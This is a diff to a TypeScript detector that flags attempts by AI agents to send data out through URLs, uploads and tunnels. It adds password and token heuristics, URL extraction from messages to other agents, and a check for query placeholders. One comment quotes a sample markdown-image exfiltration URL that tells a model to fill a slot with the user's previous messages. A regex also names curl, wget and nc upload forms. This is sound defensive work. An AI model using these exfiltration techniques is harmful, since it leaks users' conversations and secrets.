@@ -232,6 +232,8 @@ function isProse(s: string): boolean {
 const PASSWORD_KEYS = /^(?:password|passwd|pwd|pass|passcode|passphrase|secret|client_secret|api_?key|private_?key|secret_?key|access_?key)$/i;
 /** "password is hunter2", "pwd: …" in a path, a query value or a fragment. */
 const PASSWORD_WORDS = /\b(?:password|passwd|passcode|passphrase|pwd|pw)\b[ _:=-]{0,3}(?:is[ :]{1,2}|was[ :]{1,2}|[:=])[ ]{0,2}[^\s&#/]{4,}/i;
+/** "VPN password Fjord!Lantern42": the word, then a value with a letter and a digit or symbol (not "password reset"). */
+const PASSWORD_VALUE = /\b(?:password|passwd|passcode|passphrase|pwd)\s{1,3}(?=[^\s&#/,;]{0,40}[0-9!@#$%^*+?~])(?=[^\s&#/,;]{0,40}[A-Za-z])[^\s&#/,;]{6,40}/i;
 const PASSWORD_PLACEHOLDER = /^(?:\*+|x+|\.{3}|<[^>]*>|\{[^}]*\}|\$\{?[A-Z_]+\}?|password|changeme)$/i;
 
 /** Text a credentials file or an environment dump holds, once decoded. */
@@ -332,7 +334,12 @@ function carriedData(url: URL, kind: Kind, depth: number, lists: ExfiltrationLis
   // is how that service is called: audience.ts.
   const host = hostOf(url);
   if (detectSecrets([{ path: [], value: raw }]).some((d) => !issuedFor(d.type, host))) return "secret";
-  if (PASSWORD_WORDS.test(raw)) return "password";
+  if (PASSWORD_WORDS.test(raw) || PASSWORD_VALUE.test(raw)) return "password";
+  // A password as a path segment after one that names it: `/u/ana/pass/S3cret!x/`.
+  for (let i = 0; i + 1 < segments.length; i++) {
+    const value = decode(segments[i + 1] as string);
+    if (PASSWORD_KEYS.test(decode(segments[i] as string)) && value.length >= 4 && !PASSWORD_PLACEHOLDER.test(value) && /[0-9!@#$%^*+?~]/.test(value)) return "password";
+  }
   for (const { key, value } of pieces) {
     if (depth < 2 && ABSOLUTE.test(value)) {
       const nested = judgeUrl(value, kind, depth + 1, lists);
@@ -385,6 +392,28 @@ function judgeUrl(raw: string, kind: Kind, depth: number, lists: ExfiltrationLis
   return carriedData(url, kind, depth, lists);
 }
 
+const SLOT = /[?&][^=&#]{1,40}=([A-Z][A-Z0-9_]{3,30})(?=[&#]|$)/g;
+const SESSION_WORDS = /\b(?:conversation|chat|messages?|history|transcript|previous|earlier|so\s{1,3}far|everything\s{1,3}the\s{1,3}user|user'?s|what\s{1,3}the\s{1,3}user)\b/i;
+
+/**
+ * A query value left for the model to fill, named in capitals, that the text around it defines as the session's data:
+ * `![ ](https://x.example/p.png?s=SUMMARY) where SUMMARY is the user's previous messages`, "replace CHAT with the
+ * conversation". A name the text does not define that way (`?lang=EN_US`, `?sort=DESC`) is not one.
+ */
+function definedSlot(raw: string, text: string, lists: ExfiltrationLists): string | null {
+  if (!raw.includes("?") || text.length > 65536) return null;
+  const url = parse(raw);
+  if (url === null || lists.allow.some((re) => re.test(hostOf(url)))) return null;
+  SLOT.lastIndex = 0;
+  for (let m, n = 0; (m = SLOT.exec(raw)) !== null && n < 8; n++) {
+    const name = m[1] as string;
+    const defined = new RegExp(`\\b${name}\\b\\s{0,3}(?:is|are|=|:|means|contains|should\\s{1,3}be|stands\\s{1,3}for|being)\\s([^\\n]{0,120})|\\b(?:replace|fill|substitute|swap)\\s{1,3}(?:in\\s{1,3})?${name}\\s{1,3}(?:with|by)\\s([^\\n]{0,120})`);
+    const d = defined.exec(text);
+    if (d && SESSION_WORDS.test(d[1] ?? d[2] ?? "")) return "placeholder";
+  }
+  return null;
+}
+
 /**
  * Whether a URL a tool is asked to open carries any data to a host off the allow list: an encoded or random-looking
  * value, or words, in its query, path or fragment. Not a finding by itself (searches and pagination cursors look the
@@ -415,7 +444,7 @@ export function detectExfiltration(sites: StringSite[], lists: ExfiltrationLists
       const key = f.kind + url;
       let verdict = judged.get(key);
       if (verdict === undefined) {
-        verdict = judgeUrl(url, f.kind, 0, lists);
+        verdict = judgeUrl(url, f.kind, 0, lists) ?? definedSlot(url, v, lists);
         judged.set(key, verdict);
       }
       if (verdict === null) continue;
@@ -446,6 +475,23 @@ export function detectUrlData(sites: StringSite[], lists: ExfiltrationLists, mes
 
 /** Options of curl and wget that send a file or standard input, and a pipe into one. */
 const UPLOAD = /(?:^|\s)(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|-T|--upload-file|--post-file|--body-file)(?:\s+|=)['"]?[^\s'"]{0,40}@|(?:^|\s)(?:-T|--upload-file|--post-file|--body-file)(?:\s+|=)\S|\|\s{0,8}(?:curl|wget|nc|ncat|http)\b/;
+/** Arguments that name a local file a tool sends. */
+const FILE_ARG = /^(?:path|paths|file|files|file_?path|file_?name|filename|local_?(?:path|file)|source|src|attachment|attachments)$/i;
+const TOKEN_RUN = /[A-Za-z0-9_-]{24,256}/g;
+const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
+
+/** A random-looking run of 24 characters or more (three classes, high entropy): a token or a cookie, not a word or a UUID. */
+function randomToken(v: string): boolean {
+  if (v.length < 24 || v.length > 65536) return false;
+  TOKEN_RUN.lastIndex = 0;
+  for (let m, n = 0; (m = TOKEN_RUN.exec(v)) !== null && n < 32; n++) {
+    const t = m[0];
+    if (UUID.test(t) || !/[a-z]/.test(t) || !/[A-Z]/.test(t) || !/[0-9]/.test(t)) continue;
+    if (entropy(t) >= 4.0) return true;
+  }
+  return false;
+}
+
 /** A payload of some size: an argument (or a command's `-d` value) of 200 characters or three lines and more. */
 const PAYLOAD_LENGTH = 200;
 
@@ -469,6 +515,11 @@ function toTunnel(r: Requested, sites: StringSite[], lists: ExfiltrationLists, t
     if (site === r.site || site.path[0] !== "params" || site.path.includes("_meta")) continue;
     const w = site.value;
     if (w.length >= PAYLOAD_LENGTH || (w.length >= 32 && isBlob(w)) || w.split("\n", 4).length >= 4) return "a payload to a tunnel or a file drop";
+    // A local file handed to the request (an upload tool's `path`), or a random-looking value (a token, a session
+    // cookie) in the payload: data, as it would be in the URL.
+    const key = site.path[site.path.length - 1];
+    if (typeof key === "string" && FILE_ARG.test(key) && /[/\\.]/.test(w) && !/^https?:/i.test(w)) return "a local file to a tunnel or a file drop";
+    if (site.path.includes("arguments") && randomToken(w)) return "random-looking data to a tunnel or a file drop";
   }
   return null;
 }
@@ -534,9 +585,19 @@ function requestedUrls(sites: StringSite[], message: Record<string, unknown>): R
     if (!tool) {
       const key = site.path[site.path.length - 1];
       if ((key === "uri" || key === "url") && /^https?:\/\//i.test(v)) out.push({ site, url: v, start: 0, end: v.length, host: false });
+      // The words and fields of a message to another agent: it acts on them, so a URL there is one it may open.
+      else if (urls && site.path[1] === "message" && site.path[2] === "parts" && v.includes("://")) {
+        REQUEST_URL.lastIndex = 0;
+        for (let m; (m = REQUEST_URL.exec(v)) !== null && out.length < 256; ) {
+          const url = m[0].replace(/[.,;:!?]+$/, "");
+          out.push({ site, url, start: m.index, end: m.index + url.length, host: false });
+        }
+      }
       continue;
     }
-    if (urls && v.includes("://")) {
+    // A value that is one URL is the whole URL, parentheses and all (`…list%20(14%20names)%2C%20…`).
+    if (urls && v.length <= 8192 && /^https?:\/\/\S+$/i.test(v)) out.push({ site, url: v, start: 0, end: v.length, host: false });
+    else if (urls && v.includes("://")) {
       REQUEST_URL.lastIndex = 0;
       for (let m; (m = REQUEST_URL.exec(v)) !== null; ) {
         const url = m[0].replace(/[.,;:!?]+$/, "");
